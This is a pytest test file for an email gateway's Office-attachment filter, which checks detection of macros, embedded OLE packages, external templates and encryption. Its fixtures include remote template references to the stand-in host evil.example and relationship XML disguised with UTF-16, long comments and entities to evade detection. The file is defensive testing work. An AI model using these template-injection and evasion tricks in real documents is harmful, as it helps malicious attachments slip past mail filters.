"""The filter office: macros, embedded files, external templates and encryption, in whatever they come."""

import base64
import sys
from pathlib import Path

import pytest
from gatepost import Passed
from gatepost.testing import make_message, make_transaction, run_filter, running_gateway
from gatepost_files import NotReadError
from gatepost_office import Office

sys.path.insert(0, str(Path(__file__).parent))
from compound import compound, vba, zipped
from hostile import hostile

OTHER = b"Sub Other()\r\nEnd Sub\r\n"
AUTO_OPEN = b'Sub AutoOpen()\r\nMsgBox "hi"\r\nEnd Sub\r\n'
WORD = {"WordDocument": bytes(32)}
OLD = compound(WORD)
OLD_MACRO = compound({**WORD, **vba(OTHER, "Macros/")})
OLD_AUTO = compound({**WORD, **vba(AUTO_OPEN, "Macros/")})
NEW_MACRO = zipped("word/vbaProject.bin", compound(vba(OTHER)))
RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="http://evil.example/x.dotm" TargetMode="{}"/></Relationships>'
)
NATIVE = compound({**WORD, "ObjectPool/_1/\x01Ole10Native": b"x" * 50})
RTF_OBJECT = (
    rb"{\rtf1{\object\objemb{\*\objdata 01050000020000000800000050000000"[:40]
    + b"{\\object\\objemb{\\*\\objdata "
    + (b"\x01\x05\0\0\x02\0\0\0" + b"\x08\0\0\0Package\0" + bytes(8) + b"\x10\0\0\0" + bytes(16))
    .hex()
    .encode()
    + b"}}}"
)


def relations(kind, mode="External", encoding="utf-8"):
    text = RELATIONS.format(kind, mode)
    if encoding != "utf-8":
        text = text.replace('version="1.0"', f'version="1.0" encoding="{encoding}"')
    return zipped("word/_rels/settings.xml.rels", text.encode(encoding))


FOUND = {
    "macros": ("a.doc", OLD_MACRO, "macros in attachment a.doc"),
    "macros under another name": ("a.txt", OLD_MACRO, "macros in attachment a.txt"),
    "macros of a new file": ("a.docm", NEW_MACRO, "macros in attachment a.docm: word/vbaProject.bin"),
    "macros in a zip": ("a.zip", zipped("b.doc", OLD_MACRO), "macros in attachment a.zip: b.doc"),
    "macros in a new file in a zip": ("a.zip", zipped("b.docm", NEW_MACRO), "macros in attachment a.zip"),
    "an embedded file": ("a.doc", NATIVE, "an embedded file in attachment a.doc"),
    "an embedded file of a new one": (
        "a.docx",
        zipped("word/embeddings/oleObject1.bin", NATIVE),
        "an embedded file in attachment a.docx: word/embeddings/oleObject1.bin",
    ),
    "an external template": ("a.docx", relations("attachedTemplate"), "an external template or object in"),
    "an external object": ("a.docx", relations("oleObject"), "an external template or object in"),
    "relations in UTF-16": (
        "a.docx",
        relations("attachedTemplate", encoding="utf-16"),
        "an external template",
    ),
    "relations behind a long comment, with entities": (
        "a.docx",
        zipped(
            "word/_rels/settings.xml.RELS",
            b"<!--"
            + b"x" * 9000
            + b"-->"
            + RELATIONS.format("attached&#84;emplate", "External")
            .partition("?>")[2]
            .replace("relationships", "relation&#115;hips")
            .encode(),
        ),
        "an external template",
    ),
    "an RTF template": (
        "a.rtf",
        rb"{\rtf1{\*\template http://evil.example/x.dot}}",
        "an external template or object in attachment a.rtf",
    ),
    "an RTF object": ("a.doc", RTF_OBJECT, "an embedded file in attachment a.doc"),
    "encryption of a new file": (
        "a.docx",
        compound({"EncryptedPackage": b"x" * 100, "EncryptionInfo": b"x" * 100}),
        "encryption in attachment a.docx",
    ),
    "encryption of an old file": (
        "a.doc",
        compound({"WordDocument": bytes(10) + b"\0\1" + bytes(40)}),
        "encryption in attachment a.doc",
    ),
}


def with_file(name, content):
    return make_transaction(attachments={name: content})


@pytest.mark.parametrize("case", FOUND)
def test_it_is_found(case):
    name, content, reason = FOUND[case]
    assert run_filter(Office, with_file(name, content)).reason.startswith(reason)
    letter = make_transaction(attachments={"b.eml": make_message(attachments={name: content})})
    assert run_filter(Office, letter).reason.startswith(reason), "forwarded"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.doc", OLD),
        ("a.docx", zipped("word/document.xml", b"<w:document/>")),
        ("a.docx", relations("hyperlink")),
        ("a.docx", relations("image")),
        ("a.docx", relations("attachedTemplate", "Internal")),
        ("a.txt", b"Sub AutoOpen()\r\nEnd Sub\r\n"),
        ("a.html", b"<html><script>Sub AutoOpen()</script></html>"),
        ("a.bin", b""),
        ("a.rtf", rb"{\rtf1 hello}"),
        ("a.xml", b"<Relationships"),
        ("a.eml.txt", b"MIME-Version: 1.0\r\n\r\nmso Sub AutoOpen()\r\nAttribute VB_Name\r\n"),
        ("a.zip", zipped("a.xml", b"<!DOCTYPE relationships SYSTEM 'http://x/'><a/>")),
    ],
)
def test_what_is_harmless_is_no_hit(name, content):
    assert run_filter(Office, with_file(name, content)) is None


def test_the_libraries_log_nothing(caplog):
    """Their lines name no message, and anybody could fill the log with them."""
    for content in (OLD_AUTO, NEW_MACRO, NATIVE, RTF_OBJECT, OLD_AUTO[:900]):
        run_filter(Office, make_transaction(make_message(attachments={"a.doc": content})))
    assert not caplog.records


def test_only_what_is_wanted_is_a_hit():
    assert run_filter(Office, with_file("a.doc", OLD_MACRO), find=["auto_macros"]) is None
    verdict = run_filter(Office, with_file("a.doc", OLD_AUTO), find=["auto_macros"])
    assert verdict.reason == "a macro that runs by itself in attachment a.doc"
    assert verdict.matches[0].text == "AutoOpen"
    assert run_filter(Office, with_file("a.doc", NATIVE), find=["macros", "external", "encrypted"]) is None
    with pytest.raises(ValueError, match="nothing to look for"):
        Office(find=[])
    with pytest.raises(ValueError, match="find"):
        run_filter(Office, with_file("a.doc", OLD), find=["virus"])


@pytest.mark.parametrize(
    "content", [OLD_MACRO[:600], OLD_MACRO[:512] + bytes(2000), OLD_MACRO[:8] + b"\xff" * 3000, OLD_MACRO[:8]]
)
def test_a_damaged_file_is_a_hit(content):
    verdict = run_filter(Office, with_file("a.doc", content))
    assert verdict.reason.startswith("not inspected: attachment a.doc: office file that cannot be read")
    passed = Office(unscanned="pass").filter_message(with_file("a.doc", content))
    assert isinstance(passed, Passed)


HOSTILE = hostile(
    base64.encodebytes(OLD_MACRO).replace(b"\n", b"\r\n"),
    kind=b"application/octet-stream",
    fields=b"Content-Transfer-Encoding: base64\r\n",
)


@pytest.mark.parametrize("case", HOSTILE)
def test_hostile_messages_are_looked_at_all_the_same(case):
    transaction = make_transaction(content=HOSTILE[case])
    if case == "92 40,000 parts":
        with pytest.raises(NotReadError, match="more than 10000 parts"):
            run_filter(Office, transaction)
    else:
        assert run_filter(Office, transaction).reason.startswith("macros in attachment ")


def test_in_a_gateway_it_runs_in_a_process_of_its_own():
    rules = {"rules": [{"name": "no-macros", "filter": "office", "timeout": "30s"}]}
    with running_gateway(rules) as gateway:
        assert gateway.send(with_file("a.docm", NEW_MACRO)).code == 550
        assert gateway.send(with_file("a.doc", OLD)).code == 250
